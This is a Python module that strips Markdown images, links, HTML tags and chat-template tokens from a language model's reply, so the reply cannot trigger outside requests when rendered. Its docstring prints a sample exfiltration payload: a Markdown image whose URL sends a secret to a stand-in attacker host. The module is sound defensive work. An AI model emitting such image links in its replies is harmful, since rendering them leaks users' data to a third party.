"""A model's reply as plain text: no images, links, HTML or chat-template tokens survive into an answer.

A reply is untrusted (OWASP LLM05): ``![x](http://evil/?q=SECRET)`` rendered anywhere would make the
reader's browser fetch that address. Images go, a link keeps only its words, tags and template tokens go;
citation markers ``[n]`` stay (the only links an answer has are the ones the page makes to its sources).
"""

from __future__ import annotations

import re

_IMAGE = re.compile(r"!\[([^\]\n]*)\]\s*(?:\([^)\n]*\)|\[[^\]\n]*\])")
_LINK = re.compile(r"\[([^\]\n]*)\]\s*\((?:[^)\n]*)\)")
_REF_DEF = re.compile(r"^\s{0,3}\[[^\]\n]+\]:\s*\S+.*$", re.M)  # "[x]: http://…" reference definitions
_AUTOLINK = re.compile(r"<(?:https?|ftp|mailto|data|javascript):[^>\s]*>", re.I)
_TAG = re.compile(r"</?[A-Za-z][^<>\n]*>|<!--.*?-->", re.S)
_TEMPLATE = re.compile(r"<\|[^|<>\n]{1,40}\|>|</?s>|<(?:start|end)_of_turn>", re.I)
_MARKER_ONLY = re.compile(r"\s*\d+(?:\s*[,，、]\s*\d+)*\s*")


def plain(text: str) -> str:
    """``text`` without Markdown images and links (their words stay), HTML tags or template tokens."""
    text = _TEMPLATE.sub("", text)
    text = _IMAGE.sub("", text)
    text = _LINK.sub(lambda m: f"[{m.group(1)}]" if _MARKER_ONLY.fullmatch(m.group(1)) else m.group(1), text)
    text = _REF_DEF.sub("", text)
    text = _AUTOLINK.sub("", text)
    return _TAG.sub("", text)


def changed(before: str, after: str) -> bool:
    """Whether ``plain`` removed anything but whitespace."""
    return "".join(before.split()) != "".join(after.split())
